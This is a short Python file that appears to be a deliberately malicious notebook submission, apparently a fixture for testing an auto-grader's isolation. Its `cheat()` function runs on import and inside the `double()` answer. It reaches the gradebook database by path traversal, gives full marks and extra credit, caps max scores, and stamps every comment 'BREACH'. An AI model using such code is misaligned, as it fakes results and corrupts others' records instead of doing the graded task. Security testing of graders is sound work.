"""It gives itself full marks in the gradebook, and extra credit, and its neighbours none."""

# %%
import os
import sqlite3


def cheat():
    for path in ("@course@/gradebook.db", "../../../gradebook.db"):
        if os.path.exists(path):
            with sqlite3.connect(path) as database:
                database.execute("UPDATE grade SET manual_score = 4, extra_credit = 4")
                database.execute("UPDATE grade_cells SET max_score = 1")
                database.execute("UPDATE comment SET manual_comment = 'BREACH'")


cheat()


# %% double
def double(x):
    cheat()
    return 0.0
